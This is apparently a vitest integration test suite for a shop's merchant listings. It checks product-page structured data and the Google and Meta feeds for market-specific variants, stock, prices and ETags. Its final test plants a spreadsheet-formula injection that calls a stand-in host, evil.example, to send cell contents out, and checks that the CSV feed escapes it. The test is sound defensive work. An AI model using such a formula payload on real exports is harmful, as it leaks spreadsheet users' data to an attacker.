import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer, type RunningServer } from '../support/server';
import { accountClient } from './account-client';

const run = promisify(execFile);
type Json = Record<string, any>;

/** The ProductGroup of a product page, or undefined; the answer's status beside it. */
async function productGroup(server: RunningServer, path: string): Promise<{ status: number; group: Json | undefined; html: string }> {
  const res = await fetch(server.baseUrl + path);
  const html = await res.text();
  const nodes = [...html.matchAll(/<script type="application\/ld\+json">(.*?)<\/script>/gs)].map((m) => JSON.parse(m[1]!) as Json);
  return { status: res.status, group: nodes.find((n) => n['@type'] === 'ProductGroup'), html };
}

/** A Google feed's items by g:id: price, availability, link. */
async function googleFeed(server: RunningServer, market: string, headers: Record<string, string> = {}): Promise<{ status: number; etag: string | null; items: Map<string, Json> }> {
  const res = await fetch(`${server.baseUrl}/feeds/google-${market}.xml`, { headers });
  const text = await res.text();
  const items = new Map<string, Json>();
  for (const [, item] of text.matchAll(/<item>(.*?)<\/item>/g)) {
    const field = (name: string) => new RegExp(`<${name}>([^<]*)</${name}>`).exec(item!)?.[1]?.replace(/&amp;/g, '&');
    items.set(field('g:id')!, { price: field('g:price'), availability: field('g:availability'), link: field('link'), group: field('g:item_group_id') });
  }
  return { status: res.status, etag: res.headers.get('etag'), items };
}

/** A Meta feed's rows by id (the demo's fields hold no line breaks). */
async function metaFeed(server: RunningServer, market: string): Promise<Map<string, Json>> {
  const lines = (await (await fetch(`${server.baseUrl}/feeds/meta-${market}.csv`)).text()).trim().split('\n');
  const cells = (line: string) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"')).slice(0, -1);
  const header = cells(lines[0]!);
  return new Map(lines.slice(1).map((l) => {
    const row = Object.fromEntries(cells(l).map((c, i) => [header[i], c]));
    return [row.id, row];
  }));
}

const offerOf = (group: Json | undefined, sku: string) => (group?.hasVariant as Json[] | undefined)?.find((v) => v.sku === sku)?.offers as Json | undefined;

describe('merchant listings: structured data and feeds follow the catalogue', () => {
  let server: RunningServer;
  let db: pg.Client;
  /** A product sold in both markets, one of whose variants is sold in Nigeria only. */
  let both: { productId: number; nigeriaOnly: number; everywhere: number };
  /** A product sold in Nigeria only. */
  let nigerian: number;

  beforeAll(async () => {
    server = await startServer('pg');
    db = new pg.Client({ connectionString: server.databaseUrl });
    await db.connect();
    const pair = await db.query<{ product_id: number; a: number; b: number }>(`
      select v.product_id, min(v.id) as a, max(v.id) as b from variants v
      join variant_prices vp on vp.variant_id = v.id and vp.market = 'ZA'
      where v.stock > 3 group by v.product_id having count(*) >= 2 order by v.product_id limit 1`);
    const row = pair.rows[0]!;
    // Before any page is read (nothing cached yet): the variant loses its South African price, as staff do by clearing it.
    await db.query(`delete from variant_prices where variant_id = $1 and market = 'ZA'`, [row.a]);
    both = { productId: row.product_id, nigeriaOnly: row.a, everywhere: row.b };
    nigerian = (await db.query<{ id: number }>(`select product_id as id from product_from_prices group by product_id having bool_and(market = 'NG') order by 1 limit 1`)).rows[0]!.id;
  });
  afterAll(async () => {
    await db?.end();
    await server?.stop();
  });

  it('a variant sold in one market only is offered, and fed, in that market only', async () => {
    const sku = `ML-${both.productId}-${both.nigeriaOnly}`;
    const other = `ML-${both.productId}-${both.everywhere}`;
    const ng = await productGroup(server, `/product/${both.productId}`);
    const za = await productGroup(server, `/product/${both.productId}?market=ZA`);
    expect(offerOf(ng.group, sku)).toMatchObject({ priceCurrency: 'NGN' });
    expect(offerOf(za.group, sku)).toBeUndefined();
    expect(offerOf(za.group, other)).toMatchObject({ priceCurrency: 'ZAR' });
    const offer = offerOf(ng.group, other)!;
    expect(offer.shippingDetails[0]).toMatchObject({ shippingDestination: { addressCountry: 'NG' }, shippingRate: { currency: 'NGN' } });
    expect(offer.hasMerchantReturnPolicy).toMatchObject({ merchantReturnDays: 3, applicableCountry: 'NG', returnFees: 'https://schema.org/FreeReturn' });

    const [googleNg, googleZa, metaNg, metaZa] = await Promise.all([googleFeed(server, 'NG'), googleFeed(server, 'ZA'), metaFeed(server, 'NG'), metaFeed(server, 'ZA')]);
    expect(googleNg.items.get(sku)).toMatchObject({ price: `${offerOf(ng.group, sku)!.price} NGN`, link: offerOf(ng.group, sku)!.url, group: String(both.productId) });
    expect(googleZa.items.has(sku)).toBe(false);
    expect(googleZa.items.get(other)).toMatchObject({ price: `${offerOf(za.group, other)!.price} ZAR`, link: offerOf(za.group, other)!.url });
    expect(metaNg.get(sku)).toMatchObject({ price: `${offerOf(ng.group, sku)!.price} NGN`, availability: 'in stock' });
    expect(metaZa.has(sku)).toBe(false);

    // A product not sold in South Africa says so there, with no offer, and is in no South African feed.
    const absent = await productGroup(server, `/product/${nigerian}?market=ZA`);
    expect(absent.status).toBe(404);
    expect(absent.html).toContain('This piece is not sold in South Africa');
    expect(absent.html).not.toContain('"@type":"Offer"');
    expect([...googleZa.items.values()].some((i) => i.group === String(nigerian))).toBe(false);
    expect([...googleNg.items.values()].some((i) => i.group === String(nigerian))).toBe(true);
  });

  it('a sold-out variant is out of stock on its page, its URL and in both feeds', async () => {
    const sku = `ML-${both.productId}-${both.everywhere}`;
    expect(offerOf((await productGroup(server, `/product/${both.productId}`)).group, sku)!.availability).toBe('https://schema.org/InStock');
    expect((await googleFeed(server, 'NG')).items.get(sku)!.availability).toBe('in_stock');
    await run('npx', ['tsx', 'scripts/catalogue.ts', 'set-stock', String(both.everywhere), '0'], { env: { ...process.env, DATABASE_URL: server.databaseUrl!, LOG_LEVEL: 'silent' } });
    for (const market of ['NG', 'ZA']) {
      const page = await productGroup(server, `/product/${both.productId}${market === 'ZA' ? '?market=ZA' : ''}`);
      const offer = offerOf(page.group, sku)!;
      expect(offer.availability).toBe('https://schema.org/OutOfStock');
      expect((await googleFeed(server, market)).items.get(sku)!.availability).toBe('out_of_stock');
      expect((await metaFeed(server, market)).get(sku)!.availability).toBe('out of stock');
      // Its URL opens the page on that very variant, also without scripts: chosen, and said to be sold out.
      const chosen = await (await fetch(offer.url)).text();
      expect(chosen).toContain('Sold out in this combination.');
      expect(chosen).toMatch(new RegExp(`class="product-price"[^>]*data-price="${Number(offer.price)}"`));
    }
  });

  it('a price change reaches the page and the feeds at once, and a conditional fetch sees the new feed', async () => {
    const path = `/product/${both.productId}`;
    const sku = `ML-${both.productId}-${both.everywhere}`;
    const before = await googleFeed(server, 'NG');
    expect(before.etag).toBeTruthy();
    expect((await googleFeed(server, 'NG', { 'if-none-match': before.etag! })).status).toBe(304);
    const oldPrice = Number(offerOf((await productGroup(server, path)).group, sku)!.price);
    const newPrice = oldPrice + 1234;
    await run('npx', ['tsx', 'scripts/catalogue.ts', 'set-price', String(both.productId), String(newPrice)], { env: { ...process.env, DATABASE_URL: server.databaseUrl!, LOG_LEVEL: 'silent' } });
    // The staff command's invalidation arrives by NOTIFY: within a moment, page and feed agree on the new price.
    const started = Date.now();
    let pagePrice = oldPrice;
    while (pagePrice !== newPrice && Date.now() - started < 2000) {
      pagePrice = Number(offerOf((await productGroup(server, path)).group, sku)!.price);
      if (pagePrice !== newPrice) await new Promise((r) => setTimeout(r, 50));
    }
    expect(pagePrice).toBe(newPrice);
    const after = await googleFeed(server, 'NG', { 'if-none-match': before.etag! });
    expect(after.status).toBe(200);
    expect(after.etag).not.toBe(before.etag);
    expect(after.items.get(sku)!.price).toBe(`${newPrice.toFixed(2)} NGN`);
    expect((await metaFeed(server, 'NG')).get(sku)!.price).toBe(`${newPrice.toFixed(2)} NGN`);
    expect((await googleFeed(server, 'NG', { 'if-none-match': after.etag! })).status).toBe(304);
  });

  it('a product a staff account names or describes as a spreadsheet formula comes out of the Meta feed as text', async () => {
    const owner = await accountClient(server.baseUrl).signInOwner();
    const admin = (path: string, body?: Json) =>
      fetch(`${server.baseUrl}/api/v1/admin/products/${nigerian}${path}`, {
        method: body ? 'POST' : 'GET',
        headers: { authorization: `Bearer ${owner}`, ...(body ? { 'content-type': 'application/json' } : {}) },
        body: body && JSON.stringify(body),
      });
    const { product } = ((await (await admin('')).json()) as Json).data;
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const saved = await admin('', { name, description: '=1+1', categoryId: product.categoryId, active: true });
    expect(saved.status).toBe(200);
    // The feed is brought up to date in the background: the next fetches see the new words.
    let rows: Json[] = [];
    for (const started = Date.now(); Date.now() - started < 5000; await new Promise((r) => setTimeout(r, 100))) {
      rows = [...(await metaFeed(server, 'NG')).values()].filter((r) => r.item_group_id === String(nigerian));
      if (rows.length > 0 && rows.every((r) => r.description !== product.description)) break;
    }
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      expect(row.title.startsWith(`'${name}`)).toBe(true);
      expect(row.description).toBe("'=1+1");
    }
  });
});
